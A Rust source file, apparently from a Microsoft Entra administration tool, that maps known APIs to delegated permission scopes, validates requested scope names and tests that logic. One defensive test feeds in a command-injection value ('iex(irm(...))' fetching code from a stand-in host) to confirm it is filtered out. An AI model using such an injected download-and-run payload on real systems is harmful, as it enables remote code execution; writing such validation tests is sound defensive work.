//! Which APIs and which of their delegated permissions are meant.
//!
//! Application ids are those of "Verify first-party Microsoft applications in sign-in reports" (Microsoft Entra documentation);
//! they are the same in every cloud.

use crate::environment::{Environment, Service};
use crate::error::{Error, Result};
use crate::request::Request;
use crate::shown;
use crate::tenant;

/// Scopes of OpenID Connect: tokens do not reliably repeat them.
const OPENID: [&str; 4] = ["openid", "profile", "email", "offline_access"];

/// An API that has a name of its own.
struct Known {
    place: Place,
    application_id: &'static str,
    /// What this module needs of it in a customer's tenant; for the others, what everybody asks for.
    scopes: &'static [&'static str],
}

enum Place {
    Service(Service),
    Name(&'static str),
}

const KNOWN: [Known; 6] = [
    Known {
        place: Place::Service(Service::Graph),
        application_id: "00000003-0000-0000-c000-000000000000",
        scopes: &[
            "AuditLog.Read.All",
            "AuditLogsQuery.Read.All",
            "Directory.Read.All",
            "SecurityAlert.Read.All",
            "SecurityEvents.Read.All",
        ],
    },
    Known {
        place: Place::Service(Service::Manage),
        application_id: "c5393580-f805-4401-95e8-94b7a6ef2fc2",
        scopes: &["ActivityFeed.Read"],
    },
    Known {
        place: Place::Service(Service::Outlook),
        application_id: "00000002-0000-0ff1-ce00-000000000000",
        scopes: &["Exchange.Manage"],
    },
    Known {
        place: Place::Service(Service::AadGraph),
        application_id: "00000002-0000-0000-c000-000000000000",
        scopes: &["Directory.AccessAsUser.All"],
    },
    Known {
        place: Place::Service(Service::KeyVault),
        application_id: "cfa8b339-82a2-471a-a3c9-0fc0be7a4093",
        scopes: &["user_impersonation"],
    },
    Known {
        place: Place::Name("https://management.azure.com/"),
        application_id: "797f4846-ba00-4fd7-ba43-dac1f8f63013",
        scopes: &["user_impersonation"],
    },
];

/// How many of [`KNOWN`] are granted where nothing is named: those that this module works with in customers' tenants.
const USUAL: usize = 3;

impl Known {
    fn name<'a>(&'a self, environment: &'a Environment) -> &'a str {
        match self.place {
            Place::Service(service) => environment.resource(service),
            Place::Name(name) => name,
        }
    }

    fn api(&self, environment: &Environment) -> Api {
        Api {
            name: self.name(environment).to_owned(),
            application_id: self.application_id.to_owned(),
        }
    }
}

/// An API whose permissions are consented to.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Api {
    /// What its tokens are asked for: its name, or its application id where that is all that is known.
    pub(crate) name: String,
    /// `enterpriseApplicationId`.
    pub(crate) application_id: String,
}

/// Delegated permissions on one API.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Wanted {
    pub(crate) api: Api,
    pub(crate) scopes: Vec<String>,
}

impl Api {
    /// All that are known by name.
    pub(crate) fn all(environment: &Environment) -> Vec<Api> {
        KNOWN.iter().map(|known| known.api(environment)).collect()
    }

    /// `text` is an API's name in this cloud, or its application id.
    pub(super) fn find(environment: &Environment, text: &str) -> Result<Api> {
        let text = text.trim().trim_end_matches('/');
        let is_it = |known: &&Known| {
            let name = known.name(environment).trim_end_matches('/');
            text.eq_ignore_ascii_case(known.application_id) || text.eq_ignore_ascii_case(name)
        };
        if let Some(known) = KNOWN.iter().find(is_it) {
            return Ok(known.api(environment));
        }
        if tenant::parse_guid(text).is_some() {
            let id = text.to_ascii_lowercase();
            return Ok(Api {
                name: id.clone(),
                application_id: id,
            });
        }
        let example = match shown::is_host(text) {
            true => format!("https://{text}"),
            false => "https://graph.microsoft.com".to_owned(),
        };
        Err(Error::invalid(format!("{} is no API that is known by name", shown::api_name(text))).advise(format!(
            "Check the spelling: give -Resource a name such as {example}, or the API's application id (a GUID) with -Scope."
        )))
    }

    fn usual_scopes(&self) -> Result<Vec<String>> {
        let known = KNOWN.iter().find(|known| known.application_id == self.application_id);
        let scopes = known.map(|known| known.scopes.iter().map(|scope| (*scope).to_owned()).collect());
        scopes.ok_or_else(|| {
            Error::invalid(format!("it is not known which permissions of {} are wanted", self.name))
                .advise("Name them with -Scope.")
        })
    }
}

impl Wanted {
    /// The fields of a request that [`Wanted::read`] reads.
    pub(crate) const FIELDS: [&'static str; 2] = ["resources", "scopes"];

    /// What a request names, each API once: APIs, permissions of the one that is named (Microsoft Graph where none is), or
    /// permissions with their API before them. Where it names nothing, what this module needs.
    pub(crate) fn read(environment: &Environment, request: &Request) -> Result<Vec<Wanted>> {
        let mut wanted: Vec<Wanted> = Vec::new();
        let named: Vec<Api> = request
            .texts("resources")?
            .iter()
            .map(|text| Api::find(environment, text))
            .collect::<Result<_>>()?;
        let scopes = request.texts("scopes")?;
        for text in scopes
            .iter()
            .flat_map(|text| text.split([' ', ',']))
            .filter(|text| !text.is_empty())
        {
            let (api, name) = match (text.rsplit_once('/'), named.as_slice()) {
                (Some((api, name)), _) => (Api::find(environment, api)?, name),
                (None, []) => (KNOWN[0].api(environment), text),
                (None, [api]) => (api.clone(), text),
                (None, _) => {
                    return Err(
                        Error::invalid("it is not known to which of the APIs a permission belongs")
                            .advise("Name one -Resource beside -Scope, or give each scope with its API before it."),
                    )
                }
            };
            add(&mut wanted, api, scope_name(name)?);
        }
        let usual = KNOWN[..USUAL].iter().map(|known| known.api(environment));
        let whole: Vec<Api> = match (named.is_empty(), scopes.is_empty()) {
            (true, true) => usual.collect(),
            (true, false) => Vec::new(),
            (false, _) => named,
        };
        for api in whole {
            if !wanted.iter().any(|known| known.api == api) {
                let scopes = api.usual_scopes()?;
                wanted.push(Wanted { api, scopes });
            }
        }
        Ok(wanted)
    }

    /// Those of its permissions that are not among `held`.
    pub(crate) fn missing<'a>(&'a self, held: &[String]) -> Vec<&'a str> {
        let is_held = |scope: &str| held.iter().any(|own| own.eq_ignore_ascii_case(scope));
        let scopes = self.scopes.iter().map(String::as_str);
        scopes
            .filter(|scope| !OPENID.contains(scope) && !is_held(scope))
            .collect()
    }

    /// The permissions that -Scope takes. A directory may hold others: the customer names those of its own APIs, and what it names is
    /// put into no command that somebody is told to run.
    pub(crate) fn speakable(&self) -> impl Iterator<Item = &str> {
        let names = self.scopes.iter().map(String::as_str);
        names.filter(|scope| scope_name(scope).is_ok())
    }

    /// The same, each with its API before it.
    pub(crate) fn qualified(&self) -> impl Iterator<Item = String> + '_ {
        let api = self.api.name.trim_end_matches('/');
        self.speakable().map(move |scope| format!("{api}/{scope}"))
    }

    /// The same, and `held` as well.
    pub(crate) fn and(&self, held: &[String]) -> Wanted {
        let mut both = self.clone();
        let is_new = |scope: &&String| !self.scopes.iter().any(|own| own.eq_ignore_ascii_case(scope));
        both.scopes.extend(held.iter().filter(is_new).cloned());
        both
    }
}

fn add(wanted: &mut Vec<Wanted>, api: Api, scope: &str) {
    let at = wanted.iter().position(|known| known.api == api).unwrap_or_else(|| {
        wanted.push(Wanted {
            api,
            scopes: Vec::new(),
        });
        wanted.len() - 1
    });
    let scopes = &mut wanted[at].scopes;
    if !scopes.iter().any(|own| own.eq_ignore_ascii_case(scope)) {
        scopes.push(scope.to_owned());
    }
}

fn scope_name(text: &str) -> Result<&str> {
    let refused = |why: String, advice: &str| Err(Error::invalid(why).advise(advice));
    if text.eq_ignore_ascii_case(".default") {
        return refused(
            ".default names no permission".to_owned(),
            "Name the permissions, or leave -Scope out: then those that the module needs are meant.",
        );
    }
    let is_name = text.starts_with(|c: char| c.is_ascii_alphabetic())
        && text.len() <= 128
        && text.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c));
    if !is_name {
        return refused(
            format!(
                "a text of {} characters is not the name of a permission",
                text.chars().count()
            ),
            "Give delegated permissions by their names, such as Directory.Read.All.",
        );
    }
    Ok(text)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::request::Field;
    use proptest::prelude::*;

    fn environment() -> std::sync::Arc<Environment> {
        let runtime = tokio::runtime::Builder::new_current_thread().build().unwrap();
        let engine = crate::Engine::new(runtime.handle().clone());
        engine.environments().find("Public").unwrap()
    }

    fn read(resources: &[&str], scopes: &[&str]) -> Result<Vec<(String, String)>> {
        let texts = |texts: &[&str]| Field::Texts(texts.iter().map(|text| (*text).to_owned()).collect());
        let request = Request::new("consents")
            .with("resources", texts(resources))
            .with("scopes", texts(scopes));
        let wanted = Wanted::read(&environment(), &request)?;
        Ok(wanted
            .into_iter()
            .map(|wanted| (wanted.api.name, wanted.scopes.join(" ")))
            .collect())
    }

    #[test]
    fn what_is_named_is_meant_and_nothing_else() {
        let graph = "https://graph.microsoft.com";
        let other = "fc780465-2017-40d4-a0c5-307022471b92";
        let one = |name: &str, scopes: &str| (name.to_owned(), scopes.to_owned());
        assert_eq!(read(&[], &[]).unwrap().len(), 3);
        assert_eq!(
            read(&[], &["User.Read,Mail.Send", "user.read"]).unwrap(),
            [one(graph, "User.Read Mail.Send")]
        );
        assert_eq!(
            read(&["https://manage.office.com/"], &[]).unwrap(),
            [one("https://manage.office.com", "ActivityFeed.Read")]
        );
        assert_eq!(
            read(&["00000003-0000-0000-C000-000000000000"], &["Directory.Read.All"]).unwrap(),
            [one(graph, "Directory.Read.All")]
        );
        assert_eq!(read(&[other], &["Machine.Read"]).unwrap(), [one(other, "Machine.Read")]);
        assert_eq!(
            read(&[], &["https://outlook.office365.com/Exchange.Manage", "User.Read"]).unwrap(),
            [
                one("https://outlook.office365.com", "Exchange.Manage"),
                one(graph, "User.Read")
            ]
        );
    }

    #[test]
    fn what_cannot_be_meant_is_refused_and_not_repeated() {
        let other = "fc780465-2017-40d4-a0c5-307022471b92";
        for (resources, scopes) in [
            (&["Ewy~kSUOT-TxnzHleHCDwybm"][..], &[][..]),
            (&[other], &[]),
            (&[], &[".default"]),
            (&[], &["Ewy~kSUOT-TxnzHleHCDwybm"]),
            (
                &["https://graph.microsoft.com", "https://manage.office.com"],
                &["User.Read"],
            ),
        ] {
            let error = read(resources, scopes).unwrap_err();
            assert!(
                !error.message().contains("Ewy") && !error.advice().is_empty(),
                "{error}"
            );
        }
    }

    #[test]
    fn the_permissions_that_are_granted_are_those_that_errors_name() {
        for known in &KNOWN {
            if let (Place::Service(service), [scope]) = (&known.place, known.scopes) {
                assert!(service.permission().contains(scope), "{scope}");
            }
        }
    }

    #[test]
    fn what_a_customer_named_is_put_into_no_command() {
        let api = Api {
            name: "https://api.example/".to_owned(),
            application_id: String::new(),
        };
        let scopes = ["x;iex(irm(evil.example))", "read:users", "User.Read", "$(a)"].map(str::to_owned);
        let wanted = Wanted {
            api,
            scopes: scopes.to_vec(),
        };
        assert_eq!(
            wanted.qualified().collect::<Vec<_>>(),
            ["https://api.example/User.Read"]
        );
    }

    proptest! {
        #[test]
        fn any_texts_are_read_or_refused(resources in prop::collection::vec("\\PC{0,20}", 0..3), scopes in prop::collection::vec("\\PC{0,20}", 0..3)) {
            let all: Vec<&str> = resources.iter().map(String::as_str).collect();
            let _ = read(&all, &scopes.iter().map(String::as_str).collect::<Vec<_>>());
        }

        #[test]
        fn what_is_held_is_not_missing(held in prop::collection::vec("[A-C]", 0..4), scopes in prop::collection::vec("[A-D]", 1..4)) {
            let api = Api { name: String::new(), application_id: String::new() };
            let wanted = Wanted { api, scopes: scopes.clone() };
            let missing = wanted.missing(&held);
            prop_assert!(scopes.iter().all(|scope| held.contains(scope) != missing.contains(&scope.as_str())));
            prop_assert!(wanted.missing(&wanted.and(&held).scopes).is_empty());
        }
    }
}
